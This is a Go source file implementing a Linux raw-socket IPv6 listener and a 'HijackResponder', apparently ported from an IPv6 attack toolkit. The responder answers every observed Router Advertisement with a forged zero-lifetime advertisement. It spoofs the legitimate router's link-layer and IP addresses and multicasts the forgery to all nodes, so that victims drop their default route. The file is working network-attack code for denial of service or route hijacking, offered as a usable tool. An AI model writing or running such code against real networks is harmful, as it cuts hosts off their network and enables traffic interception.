//go:build linux

package ndp

import (
	"container/list"
	"context"
	"net"
	"time"

	"golang.org/x/sys/unix"
)

const (
	ethertypeIPv6Hi = 0x86
	ethertypeIPv6Lo = 0xDD

	ethernetHeaderLen = 14
	ipv6HeaderLen     = 40
)

// listenHandle pairs a ListenCommand with the raw socket it reads from.
type listenHandle struct {
	cmd *ListenCommand
	h   *handle
}

// Listener runs the receiver peer's read loop over a set of ListenCommands,
// reusing the same Registry the scheduler uses to send replies.
type Listener struct {
	registry sender
}

// NewListener returns a listener bound to reg.
func NewListener(reg *Registry) *Listener {
	return &Listener{registry: reg}
}

// Run opens a raw socket per listen command and reads frames until ctx is
// canceled, grounded in uping/pkg/uping/listener.go's read loop (adapted
// here to a blocking read on an AF_PACKET socket bound per-interface
// instead of a polled AF_INET HDRINCL socket). For every accepted frame, the command's
// responder is invoked; a non-nil result is serialized and transmitted on
// the same bound interface.
func (l *Listener) Run(ctx context.Context, cmds *list.List) error {
	const op = "ndp.Listener.Run"

	var handles []*listenHandle
	for e := cmds.Front(); e != nil; e = e.Next() {
		cmd := e.Value.(*ListenCommand)
		h, err := l.registry.Open(cmd.Interface)
		if err != nil {
			return err
		}
		handles = append(handles, &listenHandle{cmd: cmd, h: h})
	}

	done := make(chan struct{})
	go func() {
		<-ctx.Done()
		close(done)
	}()

	errCh := make(chan error, len(handles))
	for _, lh := range handles {
		go l.readLoop(ctx, lh, errCh)
	}

	for range handles {
		select {
		case err := <-errCh:
			if err != nil {
				return newError(op, ErrFatal, err)
			}
		case <-done:
			return nil
		}
	}
	return nil
}

// readLoop blocks on unix.Read of lh.h's socket until ctx is canceled or a
// non-recoverable read error occurs, dispatching each accepted frame to
// lh.cmd's responder. When lh.cmd.TimeoutSecs is positive it bounds each
// read via SO_RCVTIMEO; ctx is checked between reads.
func (l *Listener) readLoop(ctx context.Context, lh *listenHandle, errCh chan<- error) {
	if lh.cmd.TimeoutSecs > 0 {
		tv := unix.NsecToTimeval((time.Duration(lh.cmd.TimeoutSecs) * time.Second).Nanoseconds())
		if err := unix.SetsockoptTimeval(lh.h.fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &tv); err != nil {
			errCh <- wrapErrno("ndp.Listener.readLoop", err)
			return
		}
	}

	buf := make([]byte, 65536)
	for {
		if err := ctx.Err(); err != nil {
			errCh <- nil
			return
		}

		n, err := unix.Read(lh.h.fd, buf)
		if err != nil {
			if err == unix.EINTR || err == unix.EAGAIN {
				continue
			}
			errCh <- wrapErrno("ndp.Listener.readLoop", err)
			return
		}

		if action := l.accept(lh, buf[:n]); action != nil {
			out := action.Frame.Bytes()
			if sendErr := l.registry.Transmit(lh.h, action.DstEth, out); sendErr != nil {
				errCh <- sendErr
				return
			}
		}
	}
}

// accept parses one inbound frame per the listener's five-step procedure
// and, if it passes the ethertype/next-header/filter checks, invokes the
// command's responder.
func (l *Listener) accept(lh *listenHandle, raw []byte) *TransmitCommand {
	if len(raw) < ethernetHeaderLen+ipv6HeaderLen {
		return nil
	}
	eth := raw[:ethernetHeaderLen]
	if eth[12] != ethertypeIPv6Hi || eth[13] != ethertypeIPv6Lo {
		return nil
	}

	ip6 := raw[ethernetHeaderLen : ethernetHeaderLen+ipv6HeaderLen]
	if ip6[6] != ipProtoICMPv6 {
		return nil
	}

	srcIP := net.IP(ip6[8:24])
	dstIP := net.IP(ip6[24:40])
	if lh.cmd.FilterSrc != nil && !lh.cmd.FilterSrc.Equal(srcIP) {
		return nil
	}
	if lh.cmd.FilterDst != nil && !lh.cmd.FilterDst.Equal(dstIP) {
		return nil
	}

	payload := raw[ethernetHeaderLen+ipv6HeaderLen:]
	return lh.cmd.Responder(eth, ip6, payload)
}

// parsedRouterAdvert is the subset of an inbound Router Advertisement the
// default-route hijack responder needs.
type parsedRouterAdvert struct {
	srcEth    net.HardwareAddr
	srcIP     net.IP
	prefix    net.IP
	prefixLen byte
}

// parseRouterAdvert extracts the source link-layer address and the
// advertised prefix from an ICMPv6 Router Advertisement's option chain,
// walking options the same way Splat-NDPeekr/lib/ndp_listener.go's parseRA
// helpers do. It returns ok=false if the message isn't a Router
// Advertisement or if either required option is missing.
func parseRouterAdvert(eth, ip6, payload []byte) (parsedRouterAdvert, bool) {
	if len(payload) < 4 {
		return parsedRouterAdvert{}, false
	}
	if payload[0] != icmpv6TypeRouterAdvertisement {
		return parsedRouterAdvert{}, false
	}
	if len(payload) < 4+8 {
		return parsedRouterAdvert{}, false
	}
	options := payload[4+8:]

	var out parsedRouterAdvert
	var haveSrcEth, havePrefix bool
	for _, o := range walkOptions(options) {
		switch o.Type {
		case optSourceLinkLayerAddr:
			if addr, ok := linkLayerAddr(o); ok {
				out.srcEth = addr
				haveSrcEth = true
			}
		case optPrefixInformation:
			if pi, ok := prefixInfo(o); ok {
				out.prefix = pi.Prefix
				out.prefixLen = pi.PrefixLength
				havePrefix = true
			}
		}
	}
	if !haveSrcEth || !havePrefix {
		return parsedRouterAdvert{}, false
	}
	out.srcIP = net.IP(ip6[8:24])
	return out, true
}

// knownRouterKey identifies a (source, prefix) pair already answered by
// the hijack responder, so repeated RAs from the same router don't cause
// repeated replies.
type knownRouterKey struct {
	srcIP  string
	prefix string
}

func routerKey(srcIP, prefix net.IP) knownRouterKey {
	return knownRouterKey{srcIP: srcIP.String(), prefix: prefix.String()}
}

var allNodesMulticastEth = net.HardwareAddr{0x33, 0x33, 0x00, 0x00, 0x00, 0x01}
var allNodesMulticastIP = net.ParseIP("ff02::1")

// HijackResponder builds the default-route hijack responder described in
// §4.5: for each observed Router Advertisement carrying both a Source
// Link-layer Address and a Prefix Information option, it replies once
// with a zero-lifetime Router Advertisement evicting the victim's default
// route, then suppresses further replies to the same (source, prefix)
// pair. This restores the known-router suppression that is present in
// the original's struct layout but commented out of its actual reply
// path (src/hijack-default.c).
type HijackResponder struct {
	seen map[knownRouterKey]struct{}
}

// NewHijackResponder returns a HijackResponder with an empty known-router
// set.
func NewHijackResponder() *HijackResponder {
	return &HijackResponder{seen: make(map[knownRouterKey]struct{})}
}

// Respond implements Responder.
func (h *HijackResponder) Respond(eth, ip6, payload []byte) *TransmitCommand {
	ra, ok := parseRouterAdvert(eth, ip6, payload)
	if !ok {
		return nil
	}

	key := routerKey(ra.srcIP, ra.prefix)
	if _, already := h.seen[key]; already {
		return nil
	}
	h.seen[key] = struct{}{}

	frame, err := BuildRouterAdvertisement(
		ra.srcEth, allNodesMulticastEth,
		ra.srcIP, allNodesMulticastIP,
		ra.prefix, ra.prefixLen, 0,
		ra.srcEth,
	)
	if err != nil {
		return nil
	}

	return &TransmitCommand{
		Interface: "", // unused: the listener sends the reply on the listen command's own handle
		DstEth:    allNodesMulticastEth,
		Frame:     frame,
		Repeat:    0,
		Timeout:   0,
	}
}
